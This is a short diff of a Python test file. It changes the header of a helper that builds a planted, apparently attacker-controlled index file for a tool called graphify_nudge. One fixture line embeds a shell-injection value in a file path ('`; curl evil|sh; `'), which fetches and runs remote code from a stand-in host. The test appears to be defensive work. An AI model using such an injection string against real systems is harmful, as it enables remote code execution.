@@ -303,7 +303,8 @@ def _planted_index(graph: Path, key: str) -> bytes:
         b"f\tsrc/app.py\tsrc/app.py`; curl evil|sh; `",
         b"s\tapply_overlay\t" + json.dumps([1, row]).encode(),
     ])  # fmt: skip
-    return f"{graphify_nudge.INDEX_MAGIC}\t{key}\t1\n".encode() + b"".join(x + b"\n" for x in lines)
+    header = f"{graphify_nudge.INDEX_MAGIC}\t{key}\t1\t-\t0.9.96\n"
+    return header.encode() + b"".join(x + b"\n" for x in lines)
 
 
 @pytest.mark.parametrize("keyed", ["as_9707cc6_keyed", "on_the_attackers_machine"])
